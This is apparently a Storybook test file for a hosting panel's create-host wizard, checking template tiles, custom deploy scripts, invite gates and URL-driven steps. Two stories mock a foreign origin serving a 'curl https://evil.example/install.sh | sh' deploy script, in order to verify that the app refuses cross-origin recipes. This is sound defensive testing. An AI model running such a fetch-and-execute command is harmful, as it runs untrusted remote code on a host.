import type { Meta, StoryObj } from '@storybook/react-vite';
import { http, HttpResponse } from 'msw';
import { expect, fn, waitFor, within } from 'storybook/test';
import { isolateLtr } from '@hostdeck/ui';
import { createHandlers } from '@hostdeck/mock-api';
import { panelStory } from '@storybook-helpers/panel-story';
import { storyText } from '@storybook-helpers/story-text';
import { DEFAULT_RECIPE_INDEX_URL } from '../../../../api/http/deploy-external';
import { CreateHostScreenContainer } from './create-host.container';

const wizardScriptKeys = () => Object.keys(window.sessionStorage).filter((key) => key.startsWith('hostdeck:wizard-scripts:'));

/** Each story starts without the scripts and order fields an earlier story left in this tab's session storage. */
function forgetWizardDrafts() {
  for (const key of Object.keys(window.sessionStorage)) {
    if (key.startsWith('hostdeck:wizard-scripts:') || key.startsWith('hostdeck:order-draft:')) window.sessionStorage.removeItem(key);
  }
}

const meta = {
  title: 'Screens/Hosts/CreateHostContainer',
  component: CreateHostScreenContainer,
  args: { onCreated: fn() },
  beforeEach: forgetWizardDrafts,
} satisfies Meta<typeof CreateHostScreenContainer>;

export default meta;
type Story = StoryObj<typeof meta>;

/** A paid owner starts at the template tiles (no invite gate): three numbered steps, no way back yet. */
export const Default: Story = {
  ...panelStory(),
  play: async (context) => {
    const { canvas } = context;
    const t = storyText(context, 'create-host');
    await expect(await canvas.findByRole('button', { name: 'WordPress' })).toBeVisible();
    await expect(canvas.getByText(t('ui:step', { current: 1, total: 3 }))).toBeVisible();
    await expect(canvas.queryByRole('button', { name: t('back') })).not.toBeInTheDocument();
  },
};

/** Choosing a tile loads its recipe and opens the order form; ordering reports the new host. */
export const OrdersFromTile: Story = {
  ...panelStory(),
  play: async (context) => {
    const { args, canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    await userEvent.click(await canvas.findByRole('button', { name: 'WordPress' }));
    await expect(await canvas.findByText(t('ui:step', { current: 3, total: 3 }))).toBeVisible();
    const submit = await canvas.findByRole('button', { name: t('order-form:submit') });
    await waitFor(() => expect(submit).toBeEnabled());
    await userEvent.click(submit);
    await waitFor(() => expect(args.onCreated).toHaveBeenCalledWith(expect.any(Number)));
  },
};

/** The custom step checks the script as it is typed: a valid one can go on; Back returns to the tiles. */
export const WritesCustomScript: Story = {
  ...panelStory(),
  play: async (context) => {
    const { canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    await userEvent.click(await canvas.findByRole('button', { name: (name) => name.startsWith(t('template-gallery:custom')) }));
    await expect(await canvas.findByText(t('ui:step', { current: 2, total: 3 }))).toBeVisible();
    const next = canvas.getByRole('button', { name: t('custom.continue') });
    await waitFor(() => expect(next).toBeEnabled());
    await userEvent.click(canvas.getByRole('button', { name: t('back') }));
    await expect(await canvas.findByRole('button', { name: 'WordPress' })).toBeVisible();
  },
};

/** A locked plan (-1) opens on the invite gate, numbered as the first of four steps. */
export const Locked: Story = {
  ...panelStory({ scenario: 'locked' }),
  play: async (context) => {
    const { canvas } = context;
    const t = storyText(context, 'create-host');
    await expect(await canvas.findByText(t('ui:step', { current: 1, total: 4 }))).toBeVisible();
    await expect(canvas.getByLabelText(t('invite-gate:inviteLabel'))).toBeVisible();
  },
};

/** A banned account (-2) sees the gate's banned hint, and no way to unlock. */
export const Banned: Story = {
  ...panelStory({ scenario: 'banned' }),
  play: async (context) => {
    const { canvas } = context;
    const t = storyText(context, 'create-host');
    await expect(await canvas.findByRole('alert')).toHaveTextContent(t('common:access.banned'));
    await expect(canvas.getByText(t('ui:step', { current: 1, total: 4 }))).toBeVisible();
    await expect(canvas.queryByLabelText(t('invite-gate:inviteLabel'))).not.toBeInTheDocument();
  },
};

/** A `?from=` template that cannot be fetched shows the missingTemplate alert in the custom step. */
export const FromTemplateMissing: Story = {
  ...panelStory(),
  args: { location: { from: 'no/such-recipe.yml' } },
  play: async (context) => {
    const { canvas } = context;
    const t = storyText(context, 'create-host');
    await expect(await canvas.findByText(t('common:errors.missingTemplate'))).toBeVisible();
    await expect(canvas.getByText(t('ui:step', { current: 2, total: 3 }))).toBeVisible();
  },
};

/** After choosing a tile its deploy script can be read (left to right in every language) and edited before ordering. */
export const ReadsDeployScript: Story = {
  ...panelStory(),
  play: async (context) => {
    const { canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    await userEvent.click(await canvas.findByRole('button', { name: 'WordPress' }));
    await userEvent.click(await canvas.findByText(t('script.title')));
    const script = await canvas.findByRole('region', { name: t('script.label') });
    await expect(script).toHaveTextContent('source: https://wordpress.org/latest.zip#wordpress');
    await expect(script.closest('[dir]')).toHaveAttribute('dir', 'ltr');
    await userEvent.click(canvas.getByRole('button', { name: t('script.edit') }));
    await expect(await canvas.findByText(t('ui:step', { current: 2, total: 3 }))).toBeVisible();
    await expect(await canvas.findByRole('textbox', { name: t('template-editor:label') })).toHaveTextContent('wordpress.org/latest.zip');
    // The edited script goes on to the order form.
    const next = canvas.getByRole('button', { name: t('custom.continue') });
    await waitFor(() => expect(next).toBeEnabled());
    await userEvent.click(next);
    await userEvent.click(await canvas.findByText(t('script.title')));
    await expect(await canvas.findByRole('region', { name: t('script.label') })).toHaveTextContent('wordpress.org/latest.zip');
  },
};

/** The step indicator's finished steps are buttons back to them; the current and later steps are not. */
export const RevisitsFinishedStep: Story = {
  ...panelStory(),
  play: async (context) => {
    const { canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    await userEvent.click(await canvas.findByRole('button', { name: 'WordPress' }));
    await expect(await canvas.findByText(t('ui:step', { current: 3, total: 3 }))).toBeVisible();
    const progress = canvas.getByLabelText(t('progress'));
    // The finished steps reopen once the recipe has loaded (before, the script step would open without it).
    await canvas.findByRole('button', { name: t('order-form:submit') }, { timeout: 5000 });
    await expect(within(progress).queryByRole('button', { name: t('steps.order') })).not.toBeInTheDocument();
    await userEvent.click(within(progress).getByRole('button', { name: t('steps.custom') }));
    await expect(await canvas.findByRole('textbox', { name: t('template-editor:label') })).toHaveTextContent('wordpress.org/latest.zip');
    await expect(within(progress).queryByRole('button', { name: t('steps.custom') })).not.toBeInTheDocument();
    await userEvent.click(within(progress).getByRole('button', { name: t('steps.templates') }));
    await expect(await canvas.findByRole('button', { name: 'WordPress' })).toBeVisible();
    await expect(within(progress).queryAllByRole('button')).toHaveLength(0);
  },
};

/** A reload reopens the step and the template the address names (here the order form with WordPress). */
export const OpensStepFromAddress: Story = {
  ...panelStory(),
  args: { location: { step: 'order', template: 'boot/wordpress.yml' } },
  play: async (context) => {
    const { canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    await expect(await canvas.findByRole('button', { name: t('order-form:submit') })).toBeVisible();
    await expect(canvas.getByText(t('ui:step', { current: 3, total: 3 }))).toBeVisible();
    await userEvent.click(canvas.getByText(t('script.title')));
    await expect(await canvas.findByRole('region', { name: t('script.label') })).toHaveTextContent('wordpress.org/latest.zip');
  },
};

/** The order form without a template in the address falls back to the tiles, and the address is corrected in place. */
export const OrderWithoutTemplate: Story = {
  ...panelStory(),
  args: { location: { step: 'order' }, onNavigate: fn() },
  play: async (context) => {
    const { args, canvas } = context;
    const t = storyText(context, 'create-host');
    await expect(await canvas.findByRole('button', { name: 'WordPress' })).toBeVisible();
    await expect(canvas.getByText(t('ui:step', { current: 1, total: 3 }))).toBeVisible();
    await waitFor(() => expect(args.onNavigate).toHaveBeenCalledWith({ step: 'templates' }, { replace: true }));
  },
};

/** A template in the address that cannot be fetched shows the tiles with the missingTemplate alert. */
export const AddressTemplateMissing: Story = {
  ...panelStory(),
  args: { location: { step: 'order', template: 'boot/no-such-recipe.yml' } },
  play: async (context) => {
    const { canvas } = context;
    const t = storyText(context, 'create-host');
    await expect(await canvas.findByText(t('common:errors.missingTemplate'))).toBeVisible();
    await expect(await canvas.findByRole('button', { name: 'WordPress' })).toBeVisible();
    await expect(canvas.getByText(t('ui:step', { current: 1, total: 3 }))).toBeVisible();
  },
};

/** With a router, each step change is a new history entry (so Back returns to the step before) naming its template. */
export const PushesEachStep: Story = {
  ...panelStory(),
  args: { location: { from: null }, onNavigate: fn() },
  play: async (context) => {
    const { args, canvas, userEvent } = context;
    await userEvent.click(await canvas.findByRole('button', { name: 'WordPress' }));
    await expect(args.onNavigate).toHaveBeenCalledWith({ step: 'order', template: 'boot/wordpress.yml' }, { replace: false });
  },
};

/** A custom script goes on to the order form; once ordered the tab forgets it, and the wizard leaves as it was. */
export const OrdersFromCustomScript: Story = {
  ...panelStory(),
  play: async (context) => {
    const { args, canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    await userEvent.click(await canvas.findByRole('button', { name: (name) => name.startsWith(t('template-gallery:custom')) }));
    const next = await canvas.findByRole('button', { name: t('custom.continue') });
    await waitFor(() => expect(next).toBeEnabled());
    await userEvent.click(next);
    await expect(wizardScriptKeys()).toHaveLength(1);
    const submit = await canvas.findByRole('button', { name: t('order-form:submit') });
    await waitFor(() => expect(submit).toBeEnabled());
    await userEvent.click(submit);
    await expect(canvas.getByText(t('script.origin.custom'))).toBeVisible();
    await waitFor(() => expect(args.onCreated).toHaveBeenCalledWith(expect.any(Number)));
    await expect(wizardScriptKeys()).toEqual([]);
    await expect(canvas.getByText(t('ui:step', { current: 3, total: 3 }))).toBeVisible();
  },
};

const INDEX_ORIGIN = new URL(DEFAULT_RECIPE_INDEX_URL).origin;
const RECIPES = new URL('.', DEFAULT_RECIPE_INDEX_URL).href;

/**
 * The order form names the tile's recipe and its full address before ordering; the script itself is behind a
 * disclosure, closed at first, that opens from the keyboard and shows the script as plain, scrollable text.
 */
export const ShowsTileSource: Story = {
  ...panelStory(),
  play: async (context) => {
    const { canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    await userEvent.click(await canvas.findByRole('button', { name: 'WordPress' }));
    await expect(await canvas.findByText(t('script.origin.recipe', { title: 'WordPress' }))).toBeVisible();
    await expect(canvas.getByText(`${RECIPES}boot/wordpress.yml`)).toBeVisible();
    const disclosure = canvas.getByRole('button', { name: t('script.title') });
    await expect(disclosure).toHaveAttribute('aria-expanded', 'false');
    await expect(canvas.queryByRole('region', { name: t('script.label') })).not.toBeInTheDocument();
    disclosure.focus();
    await userEvent.keyboard('{Enter}');
    await expect(disclosure).toHaveAttribute('aria-expanded', 'true');
    const script = canvas.getByRole('region', { name: t('script.label') });
    await expect(script).toBeVisible();
    await expect(script).toHaveTextContent('source: https://wordpress.org/latest.zip#wordpress');
    await expect(document.getElementById(disclosure.getAttribute('aria-controls') ?? '')).toContainElement(script);
    // The script's long lines scroll inside its block: the open script never makes the page wider than the window.
    await expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(document.documentElement.clientWidth);
    await userEvent.keyboard('{Enter}');
    await expect(disclosure).toHaveAttribute('aria-expanded', 'false');
    await expect(canvas.queryByRole('region', { name: t('script.label') })).not.toBeInTheDocument();
  },
};

const FROM_INDEX_ORIGIN = `${RECIPES}boot/laravel.yml`;

/** A `?from=` link on the recipe index's origin loads into the editor, and the order form names its full address. */
export const FromLinkOnIndexOrigin: Story = {
  ...panelStory(),
  args: { location: { from: FROM_INDEX_ORIGIN } },
  play: async (context) => {
    const { canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    const editor = await canvas.findByRole('textbox', { name: t('template-editor:label') });
    await waitFor(() => expect(editor).toHaveTextContent('public_html/public'));
    const next = canvas.getByRole('button', { name: t('custom.continue') });
    await waitFor(() => expect(next).toBeEnabled());
    await userEvent.click(next);
    await expect(await canvas.findByText(t('script.origin.link'))).toBeVisible();
    await expect(canvas.getByText(FROM_INDEX_ORIGIN)).toBeVisible();
    await expect(canvas.queryByText(t('refused.title'))).not.toBeInTheDocument();
  },
};

const FOREIGN_FROM = 'https://evil.example/deploy.yml';
/** Requests that reached the other origin: none may. */
const foreignRequests: string[] = [];
const foreign = panelStory();

/**
 * A `?from=` link to another origin is refused before anything is fetched: the alert names both origins, and the
 * editor holds the default script, not the linked one.
 */
export const FromLinkOtherOrigin: Story = {
  ...foreign,
  args: { location: { from: FOREIGN_FROM } },
  parameters: {
    msw: {
      handlers: {
        world: [
          http.get('https://evil.example/*', ({ request }) => {
            foreignRequests.push(request.url);
            return HttpResponse.text('commands:\n  - curl https://evil.example/install.sh | sh\n');
          }),
          ...createHandlers(foreign.store),
        ],
      },
    },
  },
  beforeEach: () => {
    foreignRequests.length = 0;
    foreign.beforeEach();
  },
  play: async (context) => {
    const { canvas } = context;
    const t = storyText(context, 'create-host');
    const alert = (await canvas.findByText(t('refused.title'))).closest('[role="alert"]');
    // The origins are set apart (isolateLtr) so a right-to-left sentence keeps them whole.
    await expect(alert).toHaveTextContent(t('refused.text', { allowed: isolateLtr(INDEX_ORIGIN), refused: isolateLtr('https://evil.example') }));
    await expect(canvas.queryByText(t('common:errors.missingTemplate'))).not.toBeInTheDocument();
    const editor = await canvas.findByRole('textbox', { name: t('template-editor:label') });
    await expect(editor).not.toHaveTextContent('curl');
    await expect(editor).not.toHaveTextContent('evil.example');
    await expect(foreignRequests).toEqual([]);
  },
};

const elsewhere = panelStory();
/** Requests that reached the other origin the index points at: none may. */
const elsewhereRequests: string[] = [];

/**
 * An index whose relative_url points at another origin: choosing a tile fetches nothing from there, and the tiles come
 * back with the alert naming that origin.
 */
export const TileFromOtherOrigin: Story = {
  ...elsewhere,
  parameters: {
    msw: {
      handlers: {
        world: [
          http.get(DEFAULT_RECIPE_INDEX_URL, () => HttpResponse.text('relative_url: https://recipes.evil.example/\ntemplates:\n  - {title: WordPress, file: boot/wordpress.yml}\n')),
          http.get('https://recipes.evil.example/*', ({ request }) => {
            elsewhereRequests.push(request.url);
            return HttpResponse.text('commands:\n  - curl https://recipes.evil.example/install.sh | sh\n');
          }),
          ...createHandlers(elsewhere.store),
        ],
      },
    },
  },
  beforeEach: () => {
    elsewhereRequests.length = 0;
    elsewhere.beforeEach();
  },
  play: async (context) => {
    const { canvas, userEvent } = context;
    const t = storyText(context, 'create-host');
    await userEvent.click(await canvas.findByRole('button', { name: 'WordPress' }));
    const alert = (await canvas.findByText(t('refused.title'))).closest('[role="alert"]');
    await expect(alert).toHaveTextContent(t('refused.text', { allowed: isolateLtr(INDEX_ORIGIN), refused: isolateLtr('https://recipes.evil.example') }));
    await expect(canvas.getByRole('button', { name: 'WordPress' })).toBeVisible();
    await expect(canvas.queryByRole('button', { name: t('order-form:submit') })).not.toBeInTheDocument();
    await expect(elsewhereRequests).toEqual([]);
  },
};
